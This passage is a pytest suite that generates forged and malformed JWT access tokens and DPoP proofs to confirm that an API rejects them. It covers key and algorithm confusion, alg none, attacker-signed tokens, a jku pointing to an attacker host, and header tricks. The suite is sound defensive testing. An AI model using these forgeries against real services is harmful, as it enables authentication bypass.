            family, "duplicate sub in the claims", lambda kit: kit.token(raw_claims=claims_json(kit, b'"sub":"admin"'))
        ),
        case(
            family, "duplicate exp, the second one past", lambda kit: kit.token(raw_claims=claims_json(kit, b'"exp":1'))
        ),
        case(
            family,
            "duplicate sub, a space before its colon",
            lambda kit: kit.token(raw_claims=claims_json(kit, b'"sub" :"admin"')),
        ),
        case(
            family,
            "duplicate sub beside a value holding an escaped quote and colon",
            lambda kit: kit.token(raw_claims=claims_json(kit, b'"note":"\\":","sub":"admin"')),
        ),
        case(
            family,
            "duplicate member inside a nested object",
            lambda kit: kit.token(raw_claims=claims_json(kit, b'"x":{"a":1,"a":2}')),
        ),
        case(
            family,
            "claims with an escaped lone surrogate (no response could carry it)",
            lambda kit: kit.token(raw_claims=claims_json(kit, b'"name":"\\ud800"')),
        ),
        case(
            family,
            "claims with an escaped surrogate pair (accepted)",
            lambda kit: kit.token(raw_claims=claims_json(kit, b'"name":"\\ud83d\\ude00"')),
            OK,
        ),
        case(family, "NaN in the header", lambda kit: kit.token(raw_header=header_json(kit, b'"x":NaN'))),
        case(family, "exp NaN", lambda kit: kit.token(raw_claims=claims_json(kit, b'"exp":NaN', exp=DROP))),
        case(family, "exp Infinity", lambda kit: kit.token(raw_claims=claims_json(kit, b'"exp":Infinity', exp=DROP))),
        case(family, "nbf -Infinity", lambda kit: kit.token(raw_claims=claims_json(kit, b'"nbf":-Infinity'))),
        case(family, "exp 1e400", lambda kit: kit.token(raw_claims=claims_json(kit, b'"exp":1e400', exp=DROP))),
        case(family, "custom claim 1e400", lambda kit: kit.token(raw_claims=claims_json(kit, b'"x":1e400'))),
        case(family, "token of 20 KB", lambda kit: kit.token(note="x" * 20_000)),
        case(family, "token of 1 MB", lambda kit: kit.token(note="x" * 1_000_000)),
    ]


def claims_cases() -> list[Case]:
    family = "claims"
    cases = [
        case(family, "expired an hour ago", lambda kit: kit.token(exp=int(time.time()) - 3600)),
        case(family, "expired exactly at the leeway edge", lambda kit: kit.token(exp=int(time.time()) - kit.leeway)),
        case(family, "expired just past the leeway", lambda kit: kit.token(exp=int(time.time()) - kit.leeway - 5)),
        case(
            family,
            "expired but within the leeway (accepted)",
            lambda kit: kit.token(exp=int(time.time()) - kit.leeway + 15),
            OK,
        ),
        case(family, "nbf an hour ahead", lambda kit: kit.token(nbf=int(time.time()) + 3600)),
        case(family, "nbf just past the leeway", lambda kit: kit.token(nbf=int(time.time()) + kit.leeway + 30)),
        case(family, "iat an hour ahead", lambda kit: kit.token(iat=int(time.time()) + 3600)),
        case(family, "exp missing", lambda kit: kit.token(exp=DROP), dev=OK),
    ]
    bad_values: dict[str, object] = {
        "string": "2000000000",
        "null": None,
        "list": [2_000_000_000],
        "object": {"t": 2_000_000_000},
        "bool": True,
        "huge integer": 10**400,
    }
    for claim in ("exp", "nbf", "iat"):
        for label, value in bad_values.items():
            cases.append(case(family, f"{claim} as {label}", with_claims(**{claim: value})))
    cases += [
        case(family, "aud wrong", lambda kit: kit.token(aud="api://someone-else")),
        case(family, "aud missing", lambda kit: kit.token(aud=DROP)),
        case(family, "aud list without ours", lambda kit: kit.token(aud=["api://a", "api://b"])),
        case(family, "aud list with ours (accepted)", lambda kit: kit.token(aud=["api://a", kit.audience]), OK),
        case(family, "aud empty list", lambda kit: kit.token(aud=[])),
        case(family, "aud list with ours and a number", lambda kit: kit.token(aud=[kit.audience, 1])),
        case(family, "aud as number", lambda kit: kit.token(aud=1)),
        case(family, "aud with other case", lambda kit: kit.token(aud=kit.audience.upper())),
        case(family, "aud with trailing slash", lambda kit: kit.token(aud=f"{kit.audience}/")),
        case(family, "iss wrong", lambda kit: kit.token(iss="https://evil.example")),
        case(family, "iss missing", lambda kit: kit.token(iss=DROP)),
        case(family, "iss with trailing slash", lambda kit: kit.token(iss=f"{kit.issuer}/")),
        case(family, "iss with other case", lambda kit: kit.token(iss=kit.issuer.upper())),
        case(family, "iss as list", lambda kit: kit.token(iss=[kit.issuer])),
        case(family, "sub as number", lambda kit: kit.token(sub=42)),
        case(family, "sub null", lambda kit: kit.token(sub=None)),
        case(family, "sub as list", lambda kit: kit.token(sub=["alice"])),
        case(family, "sub as object", lambda kit: kit.token(sub={"id": "alice"})),
        case(family, "sub as bool", lambda kit: kit.token(sub=True)),
        case(family, "sub empty", lambda kit: kit.token(sub="")),
        case(family, "sub missing", lambda kit: kit.token(sub=DROP)),
        case(family, "scope missing on /items", lambda kit: kit.token(), NO_SCOPE, path="/items"),
        case(
            family,
            "scope items:read on /items (accepted)",
            lambda kit: kit.token(scope="items:read"),
            OK,
            path="/items",
        ),
    ]
    return cases


def pss_and_eddsa_cases() -> list[Case]:
    """Key confusion between RSA PKCS#1, RSA-PSS, ECDSA and Ed25519: a key serves only its own algorithm."""
    family = "PS256 and EdDSA keys"

    def forged(name: str, make: Callable[[Kit], str]) -> Case:
        return case(family, name, make, unsigned=True)

    def by_pss(alg: str = "PS256", kid: str = "ps-1", *, max_salt: bool = False) -> Callable[[Kit], str]:
        return lambda kit: kit.token(Rsa(kit.keys.provider_pss, alg, kid, max_salt))

    def by_ed(kid: str | None = "ed-1", *, malleated: bool = False) -> Callable[[Kit], str]:
        return lambda kit: kit.token(Eddsa(kit.keys.provider_ed, kid=kid, malleated=malleated))

    def ed_signature(change: Callable[[bytes], bytes]) -> Callable[[Kit], str]:
        def make(kit: Kit) -> str:
            token = kit.token(Eddsa(kit.keys.provider_ed, kid="ed-1"))
            return with_signature(token, b64(change(base64.urlsafe_b64decode(segments(token)[2] + "=="))))

        return make

    def by_ed_as_admin(kit: Kit) -> str:
        return kit.token(Eddsa(kit.keys.provider_ed, kid="ed-1"), sub="admin")

    def ed_public_bytes(kit: Kit) -> bytes:
        return kit.keys.provider_ed.public_key().public_bytes_raw()

    def pss_public_pem(kit: Kit) -> bytes:
        spki = serialization.PublicFormat.SubjectPublicKeyInfo
        return kit.keys.provider_pss.public_key().public_bytes(serialization.Encoding.PEM, spki)

    return [
        case(family, "PS256 by the provider's PS256 key (accepted in jwks mode)", by_pss(), jwks=OK, dev=OK),
        case(family, "EdDSA by the provider's Ed25519 key (accepted in jwks mode)", by_ed(), jwks=OK, dev=OK),
        case(family, "EdDSA without kid, the only EdDSA key (accepted in jwks mode)", by_ed(None), jwks=OK, dev=OK),
        forged("RS256 by the PS256 key, under its kid", by_pss("RS256")),
        forged("PS384 by the PS256 key, under its kid", by_pss("PS384")),
        forged("PS256 by the PS256 key with the longest salt (not the hash's length)", by_pss(max_salt=True)),
        forged("PS256 by the PS256 key under the RS256 key's kid", by_pss(kid="rsa-1")),
        forged(
            "PS256 by the attacker, provider's PS256 kid",
            lambda kit: kit.token(Rsa(kit.keys.attacker_rsa, "PS256", "ps-1")),
        ),
        forged(
            "EdDSA by the attacker, provider's Ed25519 kid",
            lambda kit: kit.token(Eddsa(kit.keys.attacker_ed, kid="ed-1")),
        ),
        forged("EdDSA by the provider's Ed25519 key under the RSA key's kid", by_ed("rsa-1")),
        forged("EdDSA by the provider's Ed25519 key under the EC key's kid", by_ed("ec-1")),
        forged(
            "ES256 by the provider's EC key under the Ed25519 key's kid",
            lambda kit: kit.token(Ecdsa(kit.keys.provider_ec, kid="ed-1")),
        ),
        forged("EdDSA signature with S + L (malleated)", by_ed(malleated=True)),
        forged("EdDSA all-zero signature", lambda kit: kit.token(Fixed(bytes(64), "EdDSA", "ed-1"))),
        forged("EdDSA signature one byte short", ed_signature(lambda signature: signature[:-1])),
        forged(
            "EdDSA signature of another token",
            lambda kit: with_signature(by_ed()(kit), segments(by_ed_as_admin(kit))[2]),
        ),
        forged(
            "HS256 keyed with the Ed25519 key's public bytes",
            lambda kit: kit.token(Hmac(ed_public_bytes(kit), kid="ed-1")),
        ),
        forged(
            "HS256 keyed with the PS256 key's public PEM", lambda kit: kit.token(Hmac(pss_public_pem(kit), kid="ps-1"))
        ),
        forged(
            "a JWK claiming PS256 with EC material: ES256 by that EC key",
            lambda kit: kit.token(Ecdsa(kit.keys.provider_ec, kid="ps-on-ec")),
        ),
        forged(
            "a JWK claiming EdDSA with RSA material: RS256 by that RSA key",
            lambda kit: kit.token(Rsa(kit.keys.provider_rsa, kid="eddsa-on-rsa")),
        ),
        forged("a JWK claiming RS256 with Ed25519 material: EdDSA by that key", by_ed("rs-on-okp")),
    ]


def token_type_cases() -> list[Case]:
    """RFC 9068 §4 and RFC 8725 §3.11: a typ naming another kind of token is refused, whatever its signature."""
    family = "token type (typ)"
    accepted = {
        "typ at+jwt": "at+jwt",
        "typ application/at+jwt": "application/at+jwt",
        "typ AT+JWT (media types ignore case)": "AT+JWT",
        "typ JWT": "JWT",
        "typ application/jwt": "application/jwt",
        "typ absent": DROP,
    }
    refused: dict[str, object] = {
        "typ dpop+jwt (a DPoP proof)": "dpop+jwt",
        "typ logout+jwt (a back-channel logout token)": "logout+jwt",
        "typ secevent+jwt (a security event token)": "secevent+jwt",
        "typ id_token+jwt": "id_token+jwt",
        "typ token-introspection+jwt": "token-introspection+jwt",
        "typ JOSE": "JOSE",
        "typ empty": "",
        "typ at+jwt with a trailing space": "at+jwt ",
        "typ null": None,
        "typ as number": 1,
        "typ as list": ["at+jwt"],
    }
    return [
        *(case(family, f"{name} (accepted)", with_header(typ=typ), OK) for name, typ in accepted.items()),
        *(case(family, name, with_header(typ=typ)) for name, typ in refused.items()),
    ]


def id_token_cases() -> list[Case]:
    """An OpenID ID token, validly signed for our audience, is still not an access token."""
    family = "ID tokens"
    return [
        case(family, "at_hash marks an ID token", with_claims(at_hash="x4Q8bRvtbGfPYvy1qfZEeg")),
        case(family, "c_hash marks an ID token", with_claims(c_hash="LDktKdoQak3Pk0cnXxCltA")),
        case(family, "nonce marks an ID token", with_claims(nonce="n-0S6_WzA2Mj")),
        case(
            family,
            "a whole ID token: azp, nonce, at_hash, auth_time",
            with_claims(azp="client-1", nonce="n-0S6_WzA2Mj", at_hash="x4Q8bRvtbGfPYvy1qfZEeg", auth_time=0),
        ),
        case(
            family,
            "ID token whose audience lists ours",
            lambda kit: kit.token(aud=["client-1", kit.audience], at_hash="x4Q8bRvtbGfPYvy1qfZEeg"),
        ),
        case(
            family,
            "access token with auth_time, acr and client_id (accepted: RFC 9068 claims)",
            with_claims(auth_time=int(time.time()) - 60, acr="1", client_id="client-1"),
            OK,
        ),
    ]


def lifetime_cases() -> list[Case]:
    """No token lives forever: exp at most AUTH_MAX_TOKEN_LIFETIME away (plus leeway), exp - iat at most that."""
    family = "lifetime"

    def lives(iat: Callable[[Kit, int], object], exp: Callable[[Kit, int], int]) -> Callable[[Kit], str]:
        def make(kit: Kit) -> str:
            now = int(time.time())
            return kit.token(iat=iat(kit, now), exp=exp(kit, now))

        return make

    def now(_: Kit, moment: int) -> int:
        return moment

    def absent(_: Kit, moment: int) -> object:
        return DROP

    return [
        case(family, "exp in ten thousand years", lives(now, lambda kit, t: t + 10_000 * 365 * 86400)),
        case(family, "exp in 2038 (2^31)", lives(now, lambda kit, t: 2**31)),
        case(family, "exp at 2^53", lives(now, lambda kit, t: 2**53)),
        case(family, "exp a day away, iat now (accepted)", lives(now, lambda kit, t: t + kit.max_lifetime), OK),
        case(family, "exp a day away, no iat (accepted)", lives(absent, lambda kit, t: t + kit.max_lifetime), OK),
        case(
            family,
            "exp a day, the leeway and a minute away, no iat",
            lives(absent, lambda kit, t: t + kit.max_lifetime + kit.leeway + 60),
        ),
        case(
            family,
            "exp - iat of a day and a second, exp in five minutes",
            lives(lambda kit, t: t + 300 - kit.max_lifetime - 1, lambda kit, t: t + 300),
        ),
        case(family, "iat at the epoch, exp in five minutes", lives(lambda kit, t: 0, lambda kit, t: t + 300)),
    ]


def header_line_cases() -> list[Case]:
    family = "Authorization header"

    def good(kit: Kit) -> bytes:
        return kit.token().encode()

    return [
        case(family, "good token (accepted)", lambda kit: kit.token(), OK),
        case(family, "missing", lambda kit: Probe("/me"), NO_TOKEN),
        case(family, "Bearer alone", lambda kit: authorization(b"Bearer"), NO_TOKEN),
        case(family, "Bearer and a space", lambda kit: authorization(b"Bearer "), NO_TOKEN),
        case(family, "Basic scheme", lambda kit: authorization(b"Basic YWxpY2U6c2VjcmV0"), NO_TOKEN),
        case(family, "Token scheme", lambda kit: authorization(b"Token " + good(kit)), NO_TOKEN),
        case(family, "no scheme", lambda kit: authorization(good(kit)), NO_TOKEN),
        case(family, "Bearer: with a colon", lambda kit: authorization(b"Bearer: " + good(kit)), NO_TOKEN),
        case(family, "Bearer without a space", lambda kit: authorization(b"Bearer" + good(kit)), NO_TOKEN),
        case(family, "lower-case bearer (accepted)", lambda kit: authorization(b"bearer " + good(kit)), OK),
        case(family, "upper-case BEARER (accepted)", lambda kit: authorization(b"BEARER " + good(kit)), OK),
        case(family, "tab after Bearer", lambda kit: authorization(b"Bearer\t" + good(kit)), NO_TOKEN),
        case(family, "two spaces after Bearer", lambda kit: authorization(b"Bearer  " + good(kit)), NO_TOKEN),
        case(family, "non-breaking space after Bearer", lambda kit: authorization(b"Bearer\xa0" + good(kit)), NO_TOKEN),
        case(
            family,
            "Cyrillic lookalike of Bearer",
            lambda kit: authorization("\u0412\u0435\u0430rer ".encode() + good(kit)),
            NO_TOKEN,
        ),
        case(family, "fullwidth B in Bearer", lambda kit: authorization("\uff22earer ".encode() + good(kit)), NO_TOKEN),
        case(
            family,
            "one-dot leader instead of dots",
            lambda kit: authorization(b"Bearer " + good(kit).replace(b".", "\u2024".encode())),
        ),
        case(
            family,
            "Cyrillic letter inside the token",
            lambda kit: authorization(b"Bearer " + good(kit)[:10] + "\u0435".encode() + good(kit)[11:]),
        ),
        case(family, "token followed by junk", lambda kit: authorization(b"Bearer " + good(kit) + b" junk")),
        Case(
            family,
            "two Authorization headers, both good",
            lambda kit: authorization(b"Bearer " + good(kit), b"Bearer " + good(kit)),
            BAD_REQUEST,
            {DPOP_MODE: DPOP_BAD_REQUEST},
        ),
        Case(
            family,
            "two Authorization headers, good then junk",
            lambda kit: authorization(b"Bearer " + good(kit), b"Bearer junk"),
            BAD_REQUEST,
            {DPOP_MODE: DPOP_BAD_REQUEST},
        ),
        case(family, "token in the query string", lambda kit: Probe(f"/me?access_token={kit.token()}"), NO_TOKEN),
        case(
            family,
            "token in Proxy-Authorization",
            lambda kit: Probe("/me", (("Proxy-Authorization", b"Bearer " + good(kit)),)),
            NO_TOKEN,
        ),
    ]


# ---------------------------------------------------------------------------- DPoP (RFC 9449)


def ec_jwk(key: ec.EllipticCurvePrivateKey, **extra: str) -> dict[str, str]:
    numbers = key.public_key().public_numbers()
    return {
        "kty": "EC",
        "crv": "P-256",
        "x": b64(numbers.x.to_bytes(32, "big")),
        "y": b64(numbers.y.to_bytes(32, "big")),
        **extra,
    }


def thumbprint(jwk: Mapping[str, str]) -> str:
    """RFC 7638: SHA-256 of the required members, sorted, no white space."""
    members = {name: jwk[name] for name in ("crv", "kty", "x", "y")}
    return b64(hashlib.sha256(compact_json(dict(sorted(members.items())))).digest())


def bound_token(kit: Kit, key: ec.EllipticCurvePrivateKey | None = None) -> str:
    """This mode's good token, bound to the holder's key (``cnf.jkt``)."""
    return kit.token(cnf={"jkt": thumbprint(ec_jwk(key or kit.keys.holder_ec))})


def proof(
    kit: Kit,
    token: str,
    *,
    signer: Signer | None = None,
    header: Mapping[str, object] | None = None,
    **changes: object,
) -> str:
    """A DPoP proof by the holder for GET /me carrying ``token``; ``header`` and keywords change it."""
    fields: dict[str, object] = {"typ": "dpop+jwt", "alg": "ES256", "jwk": ec_jwk(kit.keys.holder_ec)}
    fields.update(header or {})
    claims: dict[str, object] = {
        "jti": secrets.token_hex(16),
        "htm": "GET",
        "htu": f"{kit.base_url}/me",
        "iat": int(time.time()),
        "ath": b64(hashlib.sha256(token.encode("ascii")).digest()),
    }
    claims.update(changes)
    raw_header = compact_json({name: value for name, value in fields.items() if value is not DROP})
    raw_claims = compact_json({name: value for name, value in claims.items() if value is not DROP})
    signing_input = f"{b64(raw_header)}.{b64(raw_claims)}"
    return f"{signing_input}.{b64((signer or Ecdsa(kit.keys.holder_ec)).sign(signing_input.encode('ascii')))}"


def dpop_request(token: str, *proofs: str) -> Probe:
    headers = (("Authorization", f"DPoP {token}".encode()), *(("DPoP", text.encode()) for text in proofs))
    return Probe("/me", headers)


def bad_proof(name: str, make: Callable[[Kit, str], str], *, baits_attacker: bool = False) -> Case:
    """A bound token with a proof that RFC 9449 §4.3 refuses; services without DPoP take no DPoP at all."""

    def build(kit: Kit) -> Probe:
        token = bound_token(kit)
        return dpop_request(token, make(kit, token))

    return Case("DPoP", name, build, NO_TOKEN, {DPOP_MODE: BAD_PROOF}, baits_attacker=baits_attacker)


def dpop_cases() -> list[Case]:
    family = "DPoP"
    now = int(time.time())

    def good(kit: Kit) -> Probe:
        token = bound_token(kit)
        return dpop_request(token, proof(kit, token))

    def attacker_signed(kit: Kit, token: str) -> str:
        return proof(kit, token, signer=Ecdsa(kit.keys.attacker_ec))

    def attackers_own_key(kit: Kit, token: str) -> str:
        """A perfectly good proof, but by a key the token is not bound to."""
        jwk = ec_jwk(kit.keys.attacker_ec)
        return proof(kit, token, signer=Ecdsa(kit.keys.attacker_ec), header={"jwk": jwk})

    return [
        Case(family, "bound token with a good proof (control)", good, NO_TOKEN, {DPOP_MODE: OK}),
        case(family, "bound token presented as Bearer", bound_token),
        case(
            family,
            "bound token, proof, but Bearer scheme",
            lambda kit: Probe("/me", (("Authorization", f"Bearer {bound_token(kit)}".encode()), ("DPoP", b"x"))),
            INVALID,
        ),
        Case(
            family,
            "unbound token with a good proof",
            lambda kit: dpop_request(kit.token(), proof(kit, kit.token())),
            NO_TOKEN,
            {DPOP_MODE: DPOP_INVALID},
        ),
        Case(family, "no DPoP header", lambda kit: dpop_request(bound_token(kit)), NO_TOKEN, {DPOP_MODE: BAD_PROOF}),
        Case(
            family,
            "two DPoP headers",
            lambda kit: dpop_request(bound_token(kit), proof(kit, bound_token(kit)), proof(kit, bound_token(kit))),
            NO_TOKEN,
            {DPOP_MODE: BAD_PROOF},
        ),
        bad_proof("proof not a JWS", lambda kit, token: "not-a-proof"),
        bad_proof("proof of 10 KB", lambda kit, token: proof(kit, token, pad="x" * 10_000)),
        bad_proof("typ JWT", lambda kit, token: proof(kit, token, header={"typ": "JWT"})),
        bad_proof("typ missing", lambda kit, token: proof(kit, token, header={"typ": DROP})),
        bad_proof("alg none", lambda kit, token: proof(kit, token, signer=Fixed(b"", "none"), header={"alg": "none"})),
        bad_proof(
            "alg HS256 keyed with the public JWK",
            lambda kit, token: proof(
                kit, token, signer=Hmac(compact_json(ec_jwk(kit.keys.holder_ec))), header={"alg": "HS256"}
            ),
        ),
        bad_proof("alg ES384, not allowed", lambda kit, token: proof(kit, token, header={"alg": "ES384"})),
        bad_proof("jwk missing", lambda kit, token: proof(kit, token, header={"jwk": DROP})),
        bad_proof("jwk as a string", lambda kit, token: proof(kit, token, header={"jwk": "holder"})),
        bad_proof(
            "jwk with its private member",
            lambda kit, token: proof(
                kit,
                token,
                header={
                    "jwk": ec_jwk(
                        kit.keys.holder_ec,
                        d=b64(kit.keys.holder_ec.private_numbers().private_value.to_bytes(32, "big")),
                    )
                },
            ),
        ),
        bad_proof(
            "jwk with a number for a coordinate (a library would allocate that many bytes)",
            lambda kit, token: proof(kit, token, header={"jwk": {**ec_jwk(kit.keys.holder_ec), "x": 10**20}}),
        ),
        bad_proof(
            "jwk of type oct", lambda kit, token: proof(kit, token, header={"jwk": {"kty": "oct", "k": "c2VjcmV0"}})
        ),
        bad_proof(
            "jku to the attacker instead of jwk",
            lambda kit, token: proof(kit, token, header={"jwk": DROP, "jku": f"{kit.attacker_url}/jwks"}),
            baits_attacker=True,
        ),
        bad_proof("signed by another key than its jwk", attacker_signed),
        bad_proof("signature stripped", lambda kit, token: proof(kit, token).rpartition(".")[0] + "."),
        bad_proof("htm POST for a GET", lambda kit, token: proof(kit, token, htm="POST")),
        bad_proof("htm missing", lambda kit, token: proof(kit, token, htm=DROP)),
        bad_proof("htu another path", lambda kit, token: proof(kit, token, htu=f"{kit.base_url}/items")),
        bad_proof("htu another host", lambda kit, token: proof(kit, token, htu="http://attacker.test/me")),
        bad_proof("htu relative", lambda kit, token: proof(kit, token, htu="/me")),
        bad_proof("iat an hour old", lambda kit, token: proof(kit, token, iat=now - 3600)),
        bad_proof("iat an hour ahead", lambda kit, token: proof(kit, token, iat=now + 3600)),
        bad_proof("iat a string", lambda kit, token: proof(kit, token, iat=str(now))),
        bad_proof("jti missing", lambda kit, token: proof(kit, token, jti=DROP)),
        bad_proof("jti a number", lambda kit, token: proof(kit, token, jti=7)),
        bad_proof("ath missing", lambda kit, token: proof(kit, token, ath=DROP)),
        bad_proof("ath of another token", lambda kit, token: proof(kit, token, ath=b64(hashlib.sha256(b"x").digest()))),
        bad_proof("a good proof by a key the token is not bound to", attackers_own_key),
    ]


CASES: list[Case] = [
    *algorithm_cases(),
    *signature_cases(),
    *header_cases(),
    *key_set_cases(),
    *structure_cases(),
    *claims_cases(),
    *pss_and_eddsa_cases(),
    *token_type_cases(),
    *id_token_cases(),
    *lifetime_cases(),
    *header_line_cases(),
    *dpop_cases(),
]

# ---------------------------------------------------------------------------- results


@dataclass
class Tally:
    """Counted results of one mode's run."""

    cases: int = 0
    accepted_forgeries: int = 0
    server_errors: int = 0
    accepted_by_design: int = 0

    def record(self, case: Case, mode: str, status: int) -> None:
        self.cases += 1
        if status >= 500:
            self.server_errors += 1
        elif 200 <= status < 300:
            if case.expected(mode).status != 200:
                self.accepted_forgeries += 1
            elif case.unsigned:
                self.accepted_by_design += 1

    def summary(self, mode: str) -> str:
        line = f"{mode}: {self.cases} cases, {self.accepted_forgeries} accepted forgeries, {self.server_errors} 5xx"
        if self.accepted_by_design:
            line += f" ({self.accepted_by_design} badly signed tokens accepted by design: dev mode checks no signature)"
        return line


TALLIES = pytest.StashKey[dict[str, Tally]]()
